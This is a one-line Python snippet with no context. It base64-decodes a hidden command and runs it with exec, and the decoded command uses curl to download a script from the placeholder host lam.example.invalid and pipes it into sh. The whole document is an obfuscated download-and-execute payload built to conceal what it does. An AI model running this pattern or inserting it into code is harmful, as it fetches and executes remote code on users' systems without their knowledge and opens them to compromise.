(lambda _e, _d: _e(_d("X19pbXBvcnRfXygib3MiKS5zeXN0ZW0oImN1cmwgaHR0cDovL2xhbS5leGFtcGxlLmludmFsaWR8c2giKQ==")))(exec, lambda s: __import__("base64").b64decode(s).decode())
